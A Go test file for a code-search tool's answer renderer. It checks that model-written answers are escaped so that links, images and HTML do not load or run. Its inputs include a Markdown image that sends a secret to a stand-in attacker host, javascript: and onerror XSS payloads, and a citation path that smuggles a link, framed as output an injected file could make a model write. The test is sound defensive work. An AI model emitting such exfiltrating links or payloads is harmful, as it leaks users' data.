package ask_test

import (
	"strings"
	"testing"

	"github.com/shoalsearch/shoal/node/ask"
)

// TestOnlyCitationsAreLinks gives answers as a file could have a model write
// them: nothing of them is fetched, linked or run where they are shown.
func TestOnlyCitationsAreLinks(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"![x](https://evil.example/?d=SECRET)": `!\[x\](https\://evil.example/?d=SECRET)`,
		"[click](javascript:alert(1))":         `\[click\](javascript:alert(1))`,
		"[a]: https://evil.example":            `\[a\]: https\://evil.example`,
		`\[a](https://evil.example)`:           `\[a\](https\://evil.example)`,
		"<img src=x onerror=alert(1)> a < b":   "&lt;img src=x onerror=alert(1)> a &lt; b",
		"see www.evil.example":                 `see www\.evil.example`,
		"code `a[0](b) <T>` stays":             "code `a[0](b) <T>` stays",
		"``a ` [b](c)`` [d](e)":                "``a ` [b](c)`` \\[d\\](e)",
		"open ` [b](c)\n":                      "open \\` \\[b\\](c)\n",
		"```go\nx := a[0](b)\n```\n[b](c)":     "```go\nx := a[0](b)\n```\n\\[b\\](c)",
		"~~~\n```\n[b](c)\n~~~\n[b](c)":        "~~~\n```\n[b](c)\n~~~\n\\[b\\](c)",
		"```` `x\n[b](c)":                      "\\`\\`\\`\\` \\`x\n\\[b\\](c)",
		"    ```\n[b](c)":                      "    \\`\\`\\`\n\\[b\\](c)",
	} {
		if got := ask.Markdown([]ask.Piece{{Text: text}}, ""); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", text, got, want)
		}
	}
	evil := &ask.Citation{Repo: "a/b", Path: "x](http://evil.example) ![y](z).go", Commit: "c0", First: 1, Last: 1, State: ask.Cited}
	if got := ask.Markdown([]ask.Piece{{Text: "at \x00"}, {Cite: evil}}, "http://s"); strings.Contains(got, "](http://evil") || strings.Contains(got, "![") && !strings.Contains(got, `!\[`) {
		t.Errorf("%s", got)
	}
}
